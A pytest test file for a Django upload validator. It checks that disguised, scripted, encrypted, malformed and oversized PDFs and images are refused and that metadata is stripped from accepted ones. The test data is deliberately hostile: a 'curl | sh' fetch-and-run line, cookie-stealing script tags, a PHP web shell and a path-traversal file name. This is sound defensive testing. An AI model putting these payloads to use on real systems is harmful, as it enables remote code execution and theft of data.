"""The refusals of issue 13, each with a real file, and what is kept of the accepted ones."""

import io

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from bawaba.documents.tests import samples
from bawaba.documents.validation import (
    JPEG_MAGIC,
    PDF_MAGIC,
    PNG_MAGIC,
    DocumentRefused,
    Reason,
    sniff_media_type,
    validate_upload,
)


def refusal(data, **limits) -> str:
    with pytest.raises(DocumentRefused) as refused:
        validate_upload(data, **limits)
    return refused.value.reason


SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script><rect width='10' height='10'/></svg>"
)


@pytest.mark.parametrize(
    "name, content, declared",
    [
        ("cv.pdf", SCRIPT, "application/pdf"),
        ("diploma.pdf", HTML, "application/pdf"),
        ("page.html", HTML, "text/html"),
        ("photo.png", SVG, "image/png"),
        ("drawing.svg", SVG, "image/svg+xml"),
        ("program.jpg", b"MZ\x90\x00\x03" + bytes(200), "image/jpeg"),
        ("archive.pdf", b"PK\x03\x04" + bytes(100), "application/pdf"),
    ],
)
def test_what_is_not_a_pdf_jpeg_or_png_is_refused_whatever_its_name_or_declared_type(name, content, declared):
    upload = SimpleUploadedFile(name, content, content_type=declared)
    assert refusal(upload) == Reason.UNSUPPORTED_TYPE


def test_a_pdf_whose_header_hides_garbage_is_refused():
    assert refusal(HTML + b"\n" + samples.pdf()) == Reason.PDF_GARBAGE_BEFORE_HEADER
    assert refusal(b"\n" + samples.pdf()) == Reason.PDF_GARBAGE_BEFORE_HEADER


def test_a_zero_byte_file_is_refused():
    assert refusal(b"") == Reason.EMPTY
    assert refusal(SimpleUploadedFile("empty.pdf", b"")) == Reason.EMPTY


def test_a_file_over_the_limit_is_refused_and_read_no_further_than_the_limit():
    document = samples.pdf(pages=3)
    assert refusal(document, max_bytes=len(document) - 1) == Reason.TOO_LARGE
    assert validate_upload(document, max_bytes=len(document)).media_type == "application/pdf"

    class Endless(io.RawIOBase):
        read_so_far = 0

        def readable(self):
            return True

        def read(self, size=-1):
            self.read_so_far += size
            return b"%PDF-" + bytes(size - 5) if self.read_so_far == size else bytes(size)

    endless = Endless()
    assert refusal(endless, max_bytes=5 * 1024 * 1024) == Reason.TOO_LARGE
    assert endless.read_so_far == 5 * 1024 * 1024 + 1


def test_the_refusal_of_a_large_file_names_the_limit_in_the_readers_language():
    with pytest.raises(DocumentRefused) as refused:
        validate_upload(bytes(3 * 1024 * 1024), max_bytes=2 * 1024 * 1024)
    with translation.override("fr"):
        assert "2 Mo" in refused.value.messages[0]
    with translation.override("ar"):
        message = refused.value.messages[0]
        assert "2" in message and "MB" not in message


@pytest.mark.parametrize(
    "build, reason",
    [
        (samples.pdf_with_javascript, Reason.PDF_JAVASCRIPT),
        (samples.pdf_with_javascript_in_a_link, Reason.PDF_JAVASCRIPT),
        (samples.pdf_with_launch_action, Reason.PDF_ACTIONS),
        (samples.pdf_with_additional_actions, Reason.PDF_ACTIONS),
        (lambda: samples.pdf_with_link("javascript:alert(1)"), Reason.PDF_ACTIONS),
        (lambda: samples.pdf_with_link("file:///etc/passwd"), Reason.PDF_ACTIONS),
        (samples.pdf_with_embedded_file, Reason.PDF_EMBEDDED_FILES),
        (samples.pdf_with_xfa, Reason.PDF_FORMS),
        (samples.encrypted_pdf, Reason.PDF_ENCRYPTED),
        (lambda: samples.encrypted_pdf(user_password=""), Reason.PDF_ENCRYPTED),  # opens, but encrypted
        (lambda: samples.pdf(pages=2)[:300], Reason.PDF_UNREADABLE),
        (lambda: PDF_MAGIC + b"1.7\nthis is not a PDF at all", Reason.PDF_UNREADABLE),
    ],
)
def test_a_pdf_that_does_not_parse_is_encrypted_or_carries_active_content_is_refused(build, reason):
    assert refusal(build()) == reason


def test_a_pdf_hiding_its_script_in_an_object_nothing_refers_to_is_refused():
    assert validate_upload(samples.raw_pdf(*samples.MINIMAL_OBJECTS)).page_count == 1
    assert refusal(samples.pdf_with_unreferenced_script()) == Reason.PDF_JAVASCRIPT


def test_a_pdf_whose_cross_reference_table_is_wrong_is_refused_as_damaged():
    shifted = samples.raw_pdf(*samples.MINIMAL_OBJECTS).replace(b"1 0 obj", b"1 0 obj      ")
    assert refusal(shifted) == Reason.PDF_UNREADABLE


def test_a_valid_pdf_is_accepted_with_its_pages_and_what_follows_its_end_is_dropped():
    original = samples.pdf(pages=2) + b"PK\x03\x04 a zip archive appended to the PDF"
    accepted = validate_upload(SimpleUploadedFile("../../etc/passwd\x00.exe", original, "text/plain"))
    assert (accepted.media_type, accepted.extension, accepted.page_count) == ("application/pdf", ".pdf", 2)
    assert b"PK\x03\x04" not in accepted.content
    assert accepted.size == len(accepted.content)
    with pikepdf.open(io.BytesIO(accepted.content)) as reopened:
        assert len(reopened.pages) == 2


def test_web_links_and_an_open_at_page_one_destination_are_tolerated():
    assert validate_upload(samples.pdf_with_link("https://www.hcp.ma/")).page_count == 1
    assert validate_upload(samples.pdf_with_page_open_action()).page_count == 1


def test_a_jpeg_is_re_encoded_without_its_exif_and_gps_position():
    original = samples.jpeg_with_gps()
    with Image.open(io.BytesIO(original)) as photo:
        assert photo.getexif().get_ifd(0x8825)  # the sample does carry a position
    accepted = validate_upload(original)
    assert (accepted.media_type, accepted.extension, accepted.width, accepted.height) == (
        "image/jpeg",
        ".jpg",
        64,
        48,
    )
    assert b"PhoneMaker" not in accepted.content and b"Exif" not in accepted.content
    with Image.open(io.BytesIO(accepted.content)) as cleaned:
        assert not cleaned.getexif()
        assert cleaned.size == (64, 48)


def test_a_sideways_photo_is_turned_upright_before_its_exif_is_dropped():
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to show
    accepted = validate_upload(samples.image("image/jpeg", size=(40, 20), exif=exif.tobytes()))
    assert (accepted.width, accepted.height) == (40, 20)  # the stored size is the file's...
    with Image.open(io.BytesIO(accepted.content)) as upright:
        assert upright.size == (20, 40)  # ...and the pixels are turned


def test_a_png_loses_what_was_appended_to_it_and_its_text_chunks():
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", "secret comment")
    original = samples.image("image/png", pnginfo=info) + b"<?php system($_GET['c']); ?>"
    accepted = validate_upload(original)
    assert accepted.media_type == "image/png"
    assert b"<?php" not in accepted.content and b"secret comment" not in accepted.content
    with Image.open(io.BytesIO(accepted.content)) as cleaned:
        assert cleaned.size == (64, 48) and cleaned.getpixel((0, 0)) == (200, 30, 60)


def test_a_palette_png_keeps_its_transparency():
    picture = Image.new("P", (8, 8), 1)
    picture.putpalette([0, 0, 0, 255, 255, 255])
    out = io.BytesIO()
    picture.save(out, format="PNG", transparency=1)
    with Image.open(io.BytesIO(validate_upload(out.getvalue()).content)) as cleaned:
        assert cleaned.info.get("transparency") == 1


def test_an_image_that_does_not_decode_is_refused():
    assert refusal(samples.image("image/png")[:60]) == Reason.IMAGE_UNREADABLE
    assert refusal(samples.image("image/jpeg")[:100]) == Reason.IMAGE_UNREADABLE
    assert refusal(PNG_MAGIC + b"not a png") == Reason.IMAGE_UNREADABLE
    assert refusal(JPEG_MAGIC + b"not a jpeg") == Reason.IMAGE_UNREADABLE


def test_an_image_with_too_many_pixels_is_refused_before_it_is_decoded():
    # 8,000 × 8,000 one-bit pixels: a few kilobytes of PNG that would decode to 64 million pixels.
    bomb = io.BytesIO()
    Image.new("1", (8000, 8000)).save(bomb, format="PNG")
    assert len(bomb.getvalue()) < 100_000
    assert refusal(bomb.getvalue()) == Reason.IMAGE_TOO_MANY_PIXELS
    assert refusal(samples.image(size=(100, 100)), max_pixels=9_999) == Reason.IMAGE_TOO_MANY_PIXELS


def test_every_refusal_is_translated_into_arabic_and_french():
    from bawaba.documents.validation import REFUSAL_MESSAGES

    for reason, message in REFUSAL_MESSAGES.items():
        with translation.override("en"):
            english = str(message)
        for language in ("ar", "fr"):
            with translation.override(language):
                assert str(message) != english, (reason, language)


def test_a_form_field_shows_the_refusal_as_a_validation_error():
    from django import forms

    class UploadForm(forms.Form):
        document = forms.FileField()

        def clean_document(self):
            return validate_upload(self.cleaned_data["document"])

    form = UploadForm(files={"document": SimpleUploadedFile("x.pdf", SVG)})
    assert not form.is_valid()
    assert form.errors.as_data()["document"][0].code == Reason.UNSUPPORTED_TYPE


MAGICS = st.sampled_from([b"", PDF_MAGIC, PDF_MAGIC + b"1.4\n", JPEG_MAGIC, PNG_MAGIC, b"<svg", b"\n%PDF-"])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(prefix=MAGICS, body=st.binary(max_size=2048))
def test_random_bytes_are_refused_or_accepted_as_what_they_are_never_a_crash(prefix, body):
    data = prefix + body
    try:
        accepted = validate_upload(data, max_bytes=4096)
    except DocumentRefused as refused:
        assert refused.reason in vars(Reason).values()
        return
    # Accepted: the content said so, and the clean payload is accepted again as the same thing.
    assert accepted.media_type == sniff_media_type(data)
    again = validate_upload(accepted.content, max_bytes=10**7)
    assert again.media_type == accepted.media_type


VALID_SAMPLES = {
    "pdf": samples.pdf(pages=2),
    "pdf with a link": samples.pdf_with_link("https://www.hcp.ma/"),
    "jpeg": samples.jpeg_with_gps(),
    "png": samples.image("image/png"),
}


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    sample=st.sampled_from(sorted(VALID_SAMPLES)),
    changes=st.lists(
        st.tuples(st.floats(0, 1, exclude_max=True), st.integers(0, 255)), min_size=1, max_size=8
    ),
    cut=st.none() | st.floats(0, 1),
)
def test_a_valid_file_damaged_at_random_is_refused_or_accepted_never_a_crash(sample, changes, cut):
    """Bytes overwritten here and there, or the end cut off: the parsers' error paths, which random bytes alone
    rarely reach."""
    data = bytearray(VALID_SAMPLES[sample])
    for position, value in changes:
        data[int(position * len(data))] = value
    if cut is not None:
        data = data[: int(cut * len(data))]
    try:
        accepted = validate_upload(bytes(data))
    except DocumentRefused as refused:
        assert refused.reason in vars(Reason).values()
        return
    assert accepted.media_type == sniff_media_type(bytes(data))
    assert validate_upload(accepted.content).media_type == accepted.media_type


def test_a_truncated_image_is_refused_even_when_the_process_tolerates_truncated_images():
    """Pillow's LOAD_TRUNCATED_IMAGES is process-wide, and a library (WeasyPrint, on import) may turn it on."""
    from PIL import ImageFile

    before = ImageFile.LOAD_TRUNCATED_IMAGES
    ImageFile.LOAD_TRUNCATED_IMAGES = True
    try:
        assert refusal(samples.image("image/png")[:60]) == Reason.IMAGE_UNREADABLE
    finally:
        ImageFile.LOAD_TRUNCATED_IMAGES = before
